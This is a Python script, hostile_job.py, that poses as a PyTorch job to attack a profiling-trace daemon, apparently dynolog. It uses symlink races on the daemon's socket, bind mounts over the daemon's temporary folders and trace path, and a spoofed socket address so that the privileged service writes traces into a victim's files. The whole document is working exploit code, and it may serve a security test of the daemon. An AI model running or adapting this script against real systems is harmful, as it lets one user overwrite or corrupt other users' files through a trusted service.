"""A job of PyTorch, to look at, that turns whoever asks it for a trace against files of others: what it is asked through it swaps.

    hostile_job.py ROLE FOLDER VICTIM       prints "ready" and goes on until it is killed

Roles: links (the socket it asks becomes a link to the victim), mounts (folders made in its TMPDIR become the victim's), trace (the trace
it was asked for is the victim), address (it asks from the victim's address). All but the first need a user namespace of their own."""

import ctypes
import mmap
import os
import socket
import stat
import struct
import sys
import time

HEADER = struct.Struct("=Q32s")
BIND = 4096
libc = ctypes.CDLL(None, use_errno=True)


def mount(source, target, kind=None, flags=BIND):
    return libc.mount(os.fsencode(source), os.fsencode(target), kind, flags, None) == 0


def links(folder, victim):
    name = f"{folder}/dynolog"
    os.symlink(victim, name + ".new")
    while True:
        try:
            if stat.S_ISSOCK(os.lstat(name).st_mode):
                os.rename(name + ".new", name)
                os.symlink(victim, name + ".new")
        except FileNotFoundError:
            pass


def mounts(folder, victim):
    known = set()
    while True:
        for name in set(os.listdir(folder)) - known:
            if name.startswith("leadline") and mount(victim, f"{folder}/{name}"):
                known.add(name)


def requests(own):
    """Asks until there is something to do: the answer's text."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.bind(own)
    s.settimeout(0.1)
    payload = struct.pack("=iiqi", 2, 1, 0, os.getpid())
    while True:
        try:
            s.sendto(HEADER.pack(len(payload), b"req") + payload, "\0dynolog\0")
            text = s.recv(65536)[HEADER.size:].decode()
        except (ConnectionRefusedError, TimeoutError):
            text = ""
        if text.strip():
            return dict(line.split("=", 1) for line in text.splitlines() if line)
        time.sleep(0.05)


def trace(_, victim):
    path = requests(f"\0hostile{os.getpid()}")["ACTIVITIES_LOG_FILE"].replace(".pt.trace.json", f"_{os.getpid()}.pt.trace.json")
    os.mknod(path)
    assert mount(victim, path)
    with open(path + ".written", "w", encoding="ascii"):  # so that somebody looks
        pass


def address(_, victim):
    assert mount("none", os.path.dirname(victim), b"tmpfs", 0)
    requests(victim)


def main(role, folder, victim):
    library = f"{folder}/libtorch_cpu.so"
    with open(library, "wb") as file:
        file.write(b"x" * 4096)
    with open(library, "rb") as file:
        mapped = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    print("ready", flush=True)
    {"links": links, "mounts": mounts, "trace": trace, "address": address}[role](folder, victim)
    while mapped[0]:
        time.sleep(1)


if __name__ == "__main__":
    main(*sys.argv[1:])
